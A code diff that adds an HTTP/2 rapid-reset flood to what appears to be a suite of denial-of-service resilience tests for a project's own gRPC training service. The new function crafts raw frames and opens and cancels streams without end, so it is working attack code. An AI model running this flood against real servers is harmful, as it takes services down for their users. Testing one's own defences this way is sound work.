@@ -24,6 +24,7 @@ MODEL: Final = "m"
 CALLS_A_CONNECTION: Final = 60  # the server's limit is 64
 MANY_RANGES: Final = 10_000
 BLOCK_BYTES: Final = 1 << 20
+RESETS_AT_ONCE: Final = 100
 
 
 @dataclass(frozen=True)
@@ -142,12 +143,59 @@ def idle_connections(target: Target, count: int) -> None:
         time.sleep(60)
 
 
+def resets(target: Target, count: int) -> None:
+    """Calls of HTTP/2 that are reset as soon as they are begun, this many and then more, on one connection."""
+    tls = ssl.create_default_context(cadata=target.ca.decode())
+    tls.set_alpn_protocols(["h2"])
+    host, _, port = target.grpc.rpartition(":")
+    done = 0
+    while True:
+        with (
+            contextlib.suppress(OSError),
+            socket.create_connection((host, int(port)), timeout=60) as plain,
+            tls.wrap_socket(plain, server_hostname=host) as connection,
+        ):
+            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0))
+            # half of the numbers that a connection has for its streams
+            for first in range(1, 1 << 30, 2 * RESETS_AT_ONCE):
+                streams = range(first, first + 2 * RESETS_AT_ONCE, 2)
+                pairs = [_frame(1, 4, each, _CALL) + _frame(3, 0, each, _CANCEL) for each in streams]
+                connection.sendall(b"".join(pairs))
+                connection.settimeout(0.0)
+                with contextlib.suppress(ssl.SSLWantReadError):
+                    while connection.recv(1 << 16):
+                        pass
+                connection.settimeout(60)
+                if done < count <= done + RESETS_AT_ONCE:
+                    in_place()
+                done += RESETS_AT_ONCE
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def _text(value: str) -> bytes:
+    """A text of HPACK, plain, of less than 127 bytes."""
+    return bytes([len(value)]) + value.encode()
+
+
+# POST, https; a path, an authority, and further fields, none of them kept in the table
+_CALL: Final = (
+    b"\x83\x87\x04" + _text("/pushstep.v1.TrainingService/Push") + b"\x01" + _text("127.0.0.1")
+    + b"\x0f\x10" + _text("application/grpc") + b"\x00" + _text("te") + _text("trailers")
+    + b"\x0f\x08" + _text(f"Bearer {os.environ.get('WORKER_TOKEN', '')}")
+)  # fmt: skip
+_CANCEL: Final = (8).to_bytes(4, "big")
+
+
 FLOODS: Final[dict[str, Callable[[Target, int], None]]] = {
     "slow-heads": slow_heads,
     "large-body": large_body,
     "ranges": ranges,
     "idle-streams": idle_streams,
     "idle-connections": idle_connections,
+    "resets": resets,
 }
 
 
